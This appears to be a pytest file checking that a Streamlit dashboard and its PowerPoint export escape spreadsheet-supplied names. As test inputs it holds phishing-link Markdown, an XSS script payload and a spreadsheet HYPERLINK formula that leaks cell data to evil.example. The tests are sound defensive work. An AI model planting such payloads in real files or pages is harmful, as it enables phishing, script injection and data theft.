"""Text from spreadsheets stays text: in Streamlit's Markdown and in the deck's embedded chart workbooks (issue 12)."""

from __future__ import annotations

import html
import io
import json
import re
import shutil
import zipfile

import duckdb
import pytest
from markdown_it import MarkdownIt
from streamlit.testing.v1 import AppTest
from visitors import ROOT
from workbooks import strings_in

from presenter import deck as pptx
from presenter import markdown, slides

HOSTILE = [
    "[Session expired](https://evil.example/login) ![x](https://evil.example/b.png)",
    "<img src=x onerror=alert(1)><script>alert(2)</script>",
    "Visit https://evil.example/login or www.evil.example now",
    "mail admin@evil.example",
    "**bold** _it_ `code` ~~gone~~ $x^2$",
    ":red[alarm] :material/warning: :rainbow[x]",
    "# heading\n\n- item\n> quote\n\n<div>block</div>",
    "[ref]: https://evil.example\n[ref]",
    "&lt;b&gt; &#x3C;img&#x3E; \\[escaped\\]",
    "| a | b |\n|---|---|\n| 1 | 2 |",
    "杨行镇[点此领取补贴](https://evil.example)",
]

RENDER = MarkdownIt("gfm-like")  # CommonMark with GFM tables, strikethrough and autolinked URLs


def visible(rendered: str) -> str:
    return html.unescape(re.sub(r"<[^>]+>", "", rendered)).strip()


@pytest.mark.parametrize("text", HOSTILE)
def test_escaped_text_renders_as_the_same_text_and_nothing_else(text):
    escaped = markdown.escape(text)
    rendered = RENDER.render(escaped)
    assert re.fullmatch(r"<p>.*</p>\s*", rendered, re.S), rendered  # one plain paragraph: no link, image, list…
    for tag in ("<a", "<img", "<script", "<strong", "<em", "<code", "<h1", "<li", "<table", "<div", "<s>"):
        assert tag not in rendered, (tag, rendered)
    assert visible(rendered) == " ".join(text.split())  # the reader sees exactly what was typed
    assert markdown.unescape(escaped) == " ".join(text.split())
    # Streamlit's own directives (:colour[…], :icon:, $LaTeX$) need an unescaped ':', '[' or '$'
    assert not re.search(r"(?<!\\)[:\[$]", escaped)


def test_catalogue_markdown_is_kept_and_only_parameters_escaped():
    line = markdown.t("attention.stalled", "en", subject="[x](https://evil.example)", community="A", value="9")
    rendered = RENDER.render(line)
    assert "<strong>[x](https://evil.example)</strong>" in rendered and "<a" not in rendered


@pytest.fixture
def hostile_warehouse(sample_file, tmp_path, app_env):
    """The sample with one project renamed to a phishing link, in a community named like a tracking image, stalled."""
    path = tmp_path / "w.duckdb"
    shutil.copy(sample_file, path)
    con = duckdb.connect(str(path))
    con.execute(
        "UPDATE projects SET name = $name, community = $community, status = 'in_progress', "
        "start_date = DATE '2023-02-01', completed_date = NULL "
        "WHERE project_id = (SELECT min(project_id) FROM projects)",
        {"name": HOSTILE[0], "community": "![t](https://evil.example/t.png)"},
    )
    con.close()
    app_env.setenv("DASHBOARD_DB", str(path))
    app_env.setenv("DASHBOARD_LANG", "zh")
    return path


def every_markdown(at: AppTest) -> list[str]:
    elements = (*at.markdown, *at.caption, *at.info, *at.warning, *at.error, *at.success)
    return [str(e.value) for e in elements] + [str(e.label) for e in at.expander]


def test_names_from_spreadsheets_never_render_as_links_or_images(hostile_warehouse):
    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=60)
    at.query_params["community"] = "![t](https://evil.example/t.png)"
    at.run()
    assert not at.exception, at.exception
    texts = every_markdown(at)
    seen = [markdown.unescape(t) for t in texts]
    assert any(HOSTILE[0] in t for t in seen)  # the project is in the needs-attention list ...
    assert any("![t](https://evil.example/t.png)" in t for t in seen)  # ... and the community in the fund note
    for text in texts:
        rendered = RENDER.render(text)
        assert "<a " not in rendered and "<img" not in rendered, text


FORMULA = '=HYPERLINK("https://evil.example/?leak="&B2,"x")'


def test_chart_workbooks_in_the_deck_hold_labels_as_text_never_formulas(sample_file, tmp_path):
    path = tmp_path / "w.duckdb"
    shutil.copy(sample_file, path)
    con = duckdb.connect(str(path))
    con.execute(
        "UPDATE projects SET theme = $theme WHERE project_id IN "
        "(SELECT project_id FROM projects WHERE program = 'group_governance' AND status = 'completed' LIMIT 20)",
        {"theme": FORMULA},
    )
    data = pptx.to_pptx(slides.build(con, lang="zh", mask=True))
    con.close()
    with zipfile.ZipFile(io.BytesIO(data)) as deck:
        embedded = [n for n in deck.namelist() if n.endswith(".xlsx")]
        assert embedded
        sheets = []
        for name in embedded:
            with zipfile.ZipFile(io.BytesIO(deck.read(name))) as book:
                sheets += [book.read(n).decode("utf-8") for n in book.namelist() if n.startswith("xl/")]
    xml = "\n".join(sheets)
    assert "<f>" not in xml and "<f " not in xml and "hyperlink" not in xml.lower().replace("=hyperlink", "")
    assert html.escape(FORMULA, quote=False) in xml  # the label is there, as text


LINK = '<a href="https://evil.example/login">点此领取补贴</a>'


def chart_strings(at: AppTest) -> set[str]:
    """Every string in the traces of every chart on the page."""
    return set().union(*(strings_in(json.loads(chart.proto.spec)["data"]) for chart in at.get("plotly_chart")))


def test_names_never_become_links_on_charts(sample_file, tmp_path, app_env):
    """Plotly draws <a href> in labels as a link: a theme or community typed as HTML is shown as the text it is."""
    path = tmp_path / "w.duckdb"
    shutil.copy(sample_file, path)
    with duckdb.connect(str(path)) as con:
        con.execute(
            "UPDATE projects SET theme = $t, community = $t WHERE project_id IN (SELECT project_id FROM projects "
            "WHERE program = 'group_governance' LIMIT 3)",
            {"t": LINK},
        )
    app_env.setenv("DASHBOARD_DB", str(path))
    for page in ("pages/projects.py", "pages/presenter.py"):
        at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=60)
        at.switch_page(page).run()
        if page.endswith("presenter.py"):
            at.button(key="presenter_next").click().run()  # the group-governance slide: its chart is by theme
        else:
            at.radio(key="projects_by").set_value("theme").run()
        assert not at.exception, at.exception
        strings = chart_strings(at)
        assert any("点此领取补贴" in s for s in strings), page  # the theme is on the chart ...
        assert not [s for s in strings if "<a" in s.lower()], page  # ... as text, never as a link


def test_plotly_text_is_escaped_for_its_pseudo_html():
    assert markdown.plotly_text(LINK) == '&lt;a href="https://evil.example/login"&gt;点此领取补贴&lt;/a&gt;'
    assert markdown.plotly_text(["A&B", 3, None]) == ["A&amp;B", 3, None]
